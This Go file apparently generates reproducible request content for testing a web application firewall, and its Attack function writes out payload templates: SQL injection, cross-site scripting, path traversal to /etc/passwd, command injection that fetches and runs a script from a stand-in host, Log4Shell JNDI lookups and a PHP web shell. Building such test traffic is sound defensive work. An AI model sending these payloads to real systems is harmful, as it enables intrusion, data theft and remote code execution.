package mix

import (
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"strconv"
	"strings"
)

// Source makes the parts of requests, the same ones for the same seed. It is not for use by several goroutines at once.
type Source struct {
	*rand.Rand
	fresh bool // names of fields, and browsers, are such that never come again
}

// NewSource gives a source that makes the same as others of that seed.
func NewSource(seed uint64) Source { return Source{Rand: rand.New(rand.NewPCG(seed, 0x62656e6368))} }

// name is that of a field, or of a browser.
func (s Source) name(name string) string {
	if s.fresh {
		return name + "_" + strconv.FormatUint(s.Uint64(), 10) // of digits alone: letters spell the names of scanners now and then
	}
	return name
}

// plainWords are words of a shop's customers that no rule is about.
var plainWords = strings.Fields(`
amber apple apron autumn backpack bamboo banana basket beach bench berry bicycle blanket blue boots bottle bowl bracelet brown
button cabin camera candle canvas carpet ceramic chair cherry chestnut classic clay cloud coat coffee collar comfort copper coral
cotton cozy cream crystal cup curtain daily deep denim desk dinner double drawer dress early earth eight elastic elegant family
favourite feather fern field fleece flower forest frame fresh fruit garden gentle ginger glass gloves gold grain grape green grey
hammock handmade harbour hazel heavy hiking honey indigo ivory jacket jar jasmine kettle kitchen lace lamp large lavender lawn
leather lemon light linen little lovely maple marble meadow medium merino mint mirror modern morning mountain mug narrow natural
navy night oak oat ocean olive orange orchard organic outdoor pan paper pastel peach pear pearl pebble pepper picnic pillow pine
plain planter plate plum pocket polished porcelain purple quiet quilt rain raincoat raspberry recycled river rose round rubber
rustic saddle sage sand scarf sea shelf shirt shoes silk silver simple sky sleeve slipper small smooth snow soap sofa soft spice
spring square steel stone strawberry striped summer sunny sweater table tall tea teal thick thin towel tray tulip umbrella vanilla
vase velvet vintage violet walnut warm water wax wheat white wide willow window winter wool yellow young zipper`)

var syllables = strings.Fields("ba be bo da de do fa fe ga go ha he ja jo ka ke ki la le li lo ma mi mo na ne ni no pa pe pi po ra re ri ro sa se si so ta te ti to va ve vi vo wa we za zo")

// Syllable is one of those that words are made of.
func (s Source) Syllable() string { return syllables[s.IntN(len(syllables))] }

// Word is one that stands in a list, or one that nobody ever wrote.
func (s Source) Word() string {
	if s.IntN(3) > 0 {
		return plainWords[s.IntN(len(plainWords))]
	}
	var b strings.Builder
	for range 2 + s.IntN(3) {
		b.WriteString(s.Syllable())
	}
	return b.String()
}

// Text is n words, as people write them.
func (s Source) Text(n int) string {
	var b strings.Builder
	for i := range n {
		w := s.Word()
		switch {
		case i == 0:
			w = strings.ToUpper(w[:1]) + w[1:]
		case s.IntN(12) == 0:
			b.WriteByte(',')
		}
		if i > 0 {
			b.WriteByte(' ')
		}
		b.WriteString(w)
	}
	return b.String()
}

// Sized is text of so many bytes, or a little more.
func (s Source) Sized(bytes int) string {
	var b strings.Builder
	for b.Len() <= bytes { // the last one is a space
		b.WriteString(s.Text(8 + s.IntN(8)))
		b.WriteString(". ")
	}
	return strings.TrimSpace(b.String())
}

// Hex is a number of n hexadecimal digits.
func (s Source) Hex(n int) string {
	b := make([]byte, (n+1)/2)
	for i := range b {
		b[i] = byte(s.IntN(256))
	}
	return hex.EncodeToString(b)[:n]
}

// Bytes are n bytes of any value.
func (s Source) Bytes(n int) []byte {
	b := make([]byte, 0, n+8)
	for len(b) < n {
		b = binary.LittleEndian.AppendUint64(b, s.Uint64())
	}
	return b[:n]
}

// Attack is one that CRS refuses at paranoia level 1, with parts that are different each time.
func (s Source) Attack() string {
	n, w, host := s.IntN(100_000), s.Word(), fmt.Sprintf("198.51.100.%d", s.IntN(256))
	switch s.IntN(16) {
	case 0:
		return fmt.Sprintf("%d' OR '%d'='%d", n, n, n)
	case 1:
		return fmt.Sprintf("%d' union select %s,password from users-- -", n, w)
	case 2:
		return fmt.Sprintf("%s'; DROP TABLE %s; --", w, w)
	case 3:
		return fmt.Sprintf("%d and sleep(%d)-- ", n, 1+n%9)
	case 4:
		return fmt.Sprintf("<script>alert(%d)</script>", n)
	case 5:
		return fmt.Sprintf("\"><img src=x onerror=alert('%s')>", w)
	case 6:
		return fmt.Sprintf("<svg onload=fetch('//%s/%s')>", host, w)
	case 7:
		return fmt.Sprintf("../../../../../../etc/passwd?%s", w)
	case 8:
		return fmt.Sprintf("; cat /etc/passwd #%s", w)
	case 9:
		return fmt.Sprintf("$(curl http://%s/%s.sh|bash)", host, w)
	case 10:
		return fmt.Sprintf("${jndi:ldap://%s/%s}", host, w)
	case 11:
		return fmt.Sprintf("${${lower:j}ndi:${lower:l}dap://%s/%s}", host, w)
	case 12:
		return fmt.Sprintf("<?php system($_GET['%s']); ?>", w)
	case 13:
		return fmt.Sprintf("php://filter/convert.base64-encode/resource=%s.php", w)
	case 14:
		return fmt.Sprintf("%s || wget http://%s/%s -O /tmp/x", w, host, w)
	}
	return fmt.Sprintf("-%d' UNION ALL SELECT NULL,%d,@@version#", n, n)
}
